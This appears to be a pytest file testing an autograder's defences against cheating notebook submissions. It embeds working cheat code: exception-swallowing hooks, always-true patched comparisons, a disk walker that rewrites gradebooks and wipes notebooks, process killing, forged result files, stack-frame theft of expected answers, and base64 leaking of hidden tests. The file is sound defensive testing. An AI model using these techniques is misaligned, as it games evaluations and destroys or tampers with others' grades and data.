"""Cheating submissions against the grader (trusted grading): each earns no more than its
honest work -- 0 for these, which all start from the untouched a1 release -- and one cheat
never changes what anyone else is graded against.

Every class of attack that earned points against the in-kernel grader has a submission here:
rewriting or blanking later cells (input and AST transformers), swallowing exceptions in the
kernel's execution machinery, metadata and tags in the submitted file, replaced helpers,
objects whose comparisons always succeed, inspecting the test's frame, reading the
instructor's source, a classmate's submission or the gradebook from disk (and writing into
them), a process left running after the kernel exits, kernel exits and interrupts at chosen
moments, environment detection with forged observation files, killing the grading run, and
carrying hidden-test text out through the feedback. They are graded in one batch, with an
honest reference and an untouched release graded *after* them.
"""
from __future__ import annotations

import base64
import csv
import html
import re
import subprocess

import nbformat
import pytest

from autograder.judge import BEGIN as JUDGE_BEGIN
from autograder.judge import END as JUDGE_END
from autograder.judge import ORACLE_BEGIN, ORACLE_END, kernel_source
from kernel import grade_id, read

A = "a1_watermarking"
ANSWERS = ["a1_p1_commitment_solution", "a1_p2_keygen_solution", "a1_p3_mark_solution",
           "a1_p4_verify_solution", "a1_p5_finetune_solution"]

# name -> code placed in a new cell right after the set-up cells (before Part 1)
HOOKS = {
    "input_transformer_blanks_later_cells": '''
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
''',
    "ast_transformer_wraps_every_cell_in_try": '''
import ast
class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(_Swallow())
''',
    "run_cell_patched_to_swallow_errors": '''
_ip = get_ipython()
_orig_run_cell = _ip.run_cell
def _run_cell(raw_cell, *args, **kwargs):
    result = _orig_run_cell(raw_cell, *args, **kwargs)
    result.error_in_exec = result.error_before_exec = None
    return result
_ip.run_cell = _run_cell
_ip.showtraceback = lambda *a, **k: None
_ip.showsyntaxerror = lambda *a, **k: None
''',
    "helpers_replaced": '''
import contextlib, numpy, torch, leaklab.grading, leaklab.train, builtins
@contextlib.contextmanager
def _quiet(*a, **k):
    class C:
        @contextlib.contextmanager
        def case(self, *a):
            try:
                yield
            except BaseException:
                pass
    yield C()
leaklab.grading.check = _quiet
torch.equal = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
leaklab.train.evaluate = lambda *a, **k: 1.0
builtins.all = lambda *a, **k: True
builtins.isinstance = lambda *a, **k: True
''',
    "disk_reader_and_course_writer": '''
import os, sqlite3, json
_found = []
for _root in ("/", ):
    for _dir, _subs, _files in os.walk(_root):
        if _dir.startswith(("/proc", "/sys", "/dev", "/usr")):
            _subs[:] = []
            continue
        for _f in _files:
            if _f.endswith((".ipynb", ".db", ".csv")) or "gradebook" in _f:
                _found.append(os.path.join(_dir, _f))
print("found", len(_found), [f for f in _found if "site-packages" not in f][:20])
for _p in _found:
    if _p.endswith(".db"):
        try:
            con = sqlite3.connect(_p); con.execute("UPDATE grade SET auto_score = 999"); con.commit()
        except Exception as e:
            pass
    elif _p.endswith(".ipynb") and "site-packages" not in _p:
        try:
            nb = json.load(open(_p))
            for c in nb["cells"]:
                if "### BEGIN SOLUTION" in "".join(c["source"]):
                    exec("".join(c["source"]))
            with open(_p, "w") as f:
                json.dump({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, f)
        except Exception:
            pass
''',
    "process_left_running_rewrites_grades": '''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", """
import os, time
end = time.time() + 600
while time.time() < end:
    for d, subs, files in os.walk("/"):
        if d.startswith(("/proc", "/sys", "/usr")):
            subs[:] = []
            continue
        for f in files:
            if f == "grades.csv":
                try:
                    open(os.path.join(d, f), "w").write("hacked")
                except OSError:
                    pass
    time.sleep(2)
"""], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''',
    "kills_the_grading_run": '''
import os, signal
for _target in (os.getppid(), -1, 1):
    try:
        os.kill(_target, signal.SIGKILL)
    except OSError:
        pass
''',
    "exits_when_a_probe_starts": '''
import os
def _exit_at_probe(info):
    if "probe(" in info.raw_cell:
        os._exit(0)
get_ipython().events.register("pre_run_cell", _exit_at_probe)
''',
    "interrupts_every_test_cell": '''
import signal
def _interrupt(info):
    if "probe(" in info.raw_cell:
        signal.raise_signal(signal.SIGINT)
get_ipython().events.register("pre_run_cell", _interrupt)
''',
    "forges_observation_files": '''
import json, os
_obs = os.environ.get("LEAKLAB_OBSERVATIONS")
if _obs:                                     # environment detection: we are being graded
    os.makedirs(_obs, exist_ok=True)
    def _forge(gid, values):
        with open(os.path.join(_obs, gid + ".json"), "w") as f:
            json.dump({"schema": "leaklab.observations/1", "cell": gid, "values": values}, f)
    _forge("a1_p4_verify_visible", {"marked": 1, "queries": 0, "clean": 0,
                                    "mk": {"$dict": {}}, "vk": {"$dict": {}}})
    _forge("a1_p1_commitment_visible", {"first": ["0" * 64, {"$bytes": "00" * 16}]})
    for gid in ("a1_p2_keygen_hidden", "a1_p4_verify_hidden", "a1_p1_commitment_hidden"):
        _forge(gid, {"verdicts": [1, 1, 0, 0, 0, 0, 0, 0], "opens": [True, False, False, False, False, True]})
    os.chmod(_obs, 0o555)                    # the real probes cannot overwrite the forgeries
''',
    "smuggles_every_cell_out_through_feedback": '''
import base64
_seen = []
get_ipython().events.register("pre_run_cell", lambda info: _seen.append(info.raw_cell))
def _leak(result):
    print("LEAK:" + base64.b64encode("\\n".join(_seen).encode()).decode())
    _seen.clear()
get_ipython().events.register("post_run_cell", _leak)
''',
}

ALWAYS_EQUAL = '''
class _Anything(str):
    def __new__(cls): return str.__new__(cls, "0" * 64)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self): return True
    def __len__(self): return 64
    def __int__(self): return 1
    def __float__(self): return 1.0
    def __getitem__(self, key): return _Anything()
    def __getattr__(self, name): return _Anything()
    def __iter__(self): return iter([_Anything(), _Anything()])
    def __call__(self, *a, **k): return _Anything()
    __hash__ = str.__hash__
commit = open_commitment = keygen = mark = verify = fine_tune_attack = lambda *a, **k: _Anything()
'''

FRAME_THIEF = '''
import inspect
def _steal(*args, **kwargs):
    for frame_info in inspect.stack()[1:]:
        for name, value in frame_info.frame.f_locals.items():
            if name in ("expected", "_expected", "_c", "_mk", "_vk", "ref", "obs"):
                return value
    return 1
commit = open_commitment = keygen = mark = verify = fine_tune_attack = _steal
'''


def _with_cell(nb, code: str, after: int = 2):
    nb = nbformat.from_dict(nbformat.reads(nbformat.writes(nb), as_version=4))
    nb.cells.insert(after, nbformat.v4.new_code_cell(code))
    return nb


def _answers_replaced(nb, code: str):
    nb = nbformat.from_dict(nbformat.reads(nbformat.writes(nb), as_version=4))
    for cell in nb.cells:
        if grade_id(cell) in ANSWERS:
            cell.source = code if grade_id(cell) == ANSWERS[0] else "pass"
    return nb


def _metadata_forged(nb):
    nb = nbformat.from_dict(nbformat.reads(nbformat.writes(nb), as_version=4))
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and cell.cell_type == "code":
            cell.metadata["tags"] = ["skip-execution", "raises-exception"]
            meta.update(points=100, checksum="0" * 32, solution=True, locked=False)
            cell.source = "pass"
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    return nb


def _slim(nb):
    """The release as a minimal cheat hands it in: the set-up cells, the markdown and every cell nbgrader
    marks (the grader re-inserts any test cell a student deletes); the ungraded experiments and
    definitions are gone, so each cheat grades in ~25 s."""
    nb = nbformat.from_dict(nbformat.reads(nbformat.writes(nb), as_version=4))
    code = [i for i, c in enumerate(nb.cells) if c.cell_type == "code"]
    nb.cells = [c for i, c in enumerate(nb.cells)
                if c.cell_type != "code" or i in code[:2] or c.metadata.get("nbgrader")]
    return nb


@pytest.fixture(scope="module")
def batch(repo, tmp_path_factory):
    from autograder.pipeline import grade

    release = _slim(read(repo / "release" / A / f"{A}.ipynb"))
    cheats = {f"cheat_{name}": _with_cell(release, code) for name, code in HOOKS.items()}
    cheats["cheat_always_equal_objects"] = _answers_replaced(release, ALWAYS_EQUAL)
    cheats["cheat_frame_inspection"] = _answers_replaced(release, FRAME_THIEF)
    cheats["cheat_forged_metadata_and_tags"] = _metadata_forged(release)
    subs = tmp_path_factory.mktemp("cheats")
    for student, nb in cheats.items():
        (subs / student / A).mkdir(parents=True)
        nbformat.write(nb, str(subs / student / A / f"{A}.ipynb"))
    # graded after every cheat (sorted by name): must be untouched by them
    for student, path in (("reference", repo / "source" / A / f"{A}.ipynb"),
                          ("victim_blank", repo / "release" / A / f"{A}.ipynb")):
        (subs / student / A).mkdir(parents=True)
        (subs / student / A / f"{A}.ipynb").write_bytes(path.read_bytes())
    source_before = (repo / "source" / A / f"{A}.ipynb").read_bytes()
    out = tmp_path_factory.mktemp("cheats-graded")
    # A 120 s per-cell wall-clock backstop instead of the course's 300 s: the cheat that breaks the
    # kernel's reply machinery (cheat_helpers_replaced) sits idle until it; a1's slowest cell takes ~20 s.
    results = {r.student: r for r in grade(subs, out, timeout=120)}
    assert (repo / "source" / A / f"{A}.ipynb").read_bytes() == source_before
    return results, out, cheats


def test_every_cheat_earns_nothing(batch):
    results, _, cheats = batch
    earned = {s: results[s].auto_score for s in cheats if results[s].auto_score}
    assert not earned, f"cheats that earned points: {earned}"
    for s in cheats:
        r = results[s]
        assert r.error is None or "could not" not in r.error, (s, r.error)


def test_honest_work_graded_after_the_cheats_is_unaffected(batch):
    results, _, _ = batch
    assert (results["reference"].auto_score, results["reference"].auto_max) == (25, 25), results["reference"].cells
    assert results["victim_blank"].auto_score == 0 and results["victim_blank"].auto_max == 25


def test_the_instructor_sees_why(batch):
    results, out, cheats = batch
    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv"))}
    assert rows["cheat_kills_the_grading_run"]["status"].startswith("ok")
    assert rows["cheat_exits_when_a_probe_starts"]["status"].startswith("ok; stopped early")
    assert "120 s time limit while idle" in rows["cheat_helpers_replaced"]["status"]       # reported, not re-run
    reasons = list(csv.DictReader(open(out / "verdicts.csv")))
    forged = [r for r in reasons if r["student"] == "cheat_forges_observation_files" and r["cell"] == "a1_p4_verify_visible"]
    assert forged and forged[0]["points"] == "0" and forged[0]["reason"], forged


def test_no_process_of_a_sandbox_outlives_grading(batch):
    ps = subprocess.run(["ps", "-eo", "uid=,args="], capture_output=True, text=True).stdout
    left = [ln for ln in ps.splitlines() if ln.split() and int(ln.split()[0]) >= 61000]
    assert not left, left
    _, out, _ = batch
    assert (out / "grades.csv").read_text().startswith("assignment,")


def test_no_judge_or_expected_value_leaves_through_the_feedback(batch, repo):
    results, _, _ = batch
    src = read(repo / "source" / A / f"{A}.ipynb")
    judge_lines = set()                             # judges, and the hidden tests' victims (oracle regions)
    for cell in src.cells:
        for begin, end in ((JUDGE_BEGIN, JUDGE_END), (ORACLE_BEGIN, ORACLE_END)):
            text = cell.source
            while begin in text:
                block = text.split(begin, 1)[1].split(end, 1)[0]
                judge_lines |= {ln.strip() for ln in block.splitlines() if len(ln.strip()) > 25}
                text = text.split(end, 1)[1]
    public = "\n".join(kernel_source(c.source) for c in src.cells)      # what the kernel sees anyway,
    public += "\n".join(c.source for c in read(repo / "release" / A / f"{A}.ipynb").cells)   # and the release
    judge_lines = {ln for ln in judge_lines if ln not in public}
    assert len(judge_lines) > 30
    page = html.unescape(results["cheat_smuggles_every_cell_out_through_feedback"].feedback.read_text())
    blobs = re.findall(r"LEAK:([A-Za-z0-9+/=]+)", page)
    assert blobs, "the smuggling cheat printed nothing (it should reach its own feedback)"
    decoded = "\n".join(base64.b64decode(b).decode(errors="replace") for b in blobs)
    assert "probe(" in decoded                                  # it did see the probes' inputs and calls...
    leaked = [ln for ln in judge_lines if ln in decoded or ln in page]
    assert not leaked, f"judge code reached the student: {leaked[:3]}"   # ...but never a judge
